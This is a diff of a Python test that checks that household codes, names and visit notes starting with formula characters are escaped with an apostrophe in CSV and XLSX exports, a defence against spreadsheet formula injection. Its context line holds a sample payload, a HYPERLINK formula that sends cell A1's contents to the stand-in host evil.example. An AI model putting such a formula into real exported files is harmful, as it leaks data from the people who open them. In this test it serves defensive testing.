@@ -240,15 +240,14 @@ FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
 def test_a_household_code_or_name_that_is_a_formula_is_exported_as_text(client, world, auth):
     """Issue 17.1: the code reaches every leader, officer and province viewer in the non-personal export."""
     from tests.factories import household
-    h = household(world.users["member"], world.village1, FORMULA_CODE, head_name=FORMULA_NAME,
-                  head_phone="+84912345678", consent=True)
+    h = household(world.users["member"], world.village1, FORMULA_CODE, head_name=FORMULA_NAME, consent=True)
     _visit(world, "h1", outcome="revisit", note="@SUM(1+1)")
     log_visit(world.users["member"], h, VisitData(outcome="not_home", visited_at=utcnow(), note="-2+3"))
     db.session.commit()
     auth.login(OFFICER)
     rows = csv_rows(get(client, world.commune, personal="y"))
     cells = {c for r in rows for c in r}
-    assert {"'" + FORMULA_CODE, "'" + FORMULA_NAME, "'+84912345678", "'-2+3", "'@SUM(1+1)"} <= cells
+    assert {"'" + FORMULA_CODE, "'" + FORMULA_NAME, "'-2+3", "'@SUM(1+1)"} <= cells
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     r = client.get(URL, query_string={"area": world.commune.id, "format": "xlsx", "personal": "y"})
     assert r.status_code == 200
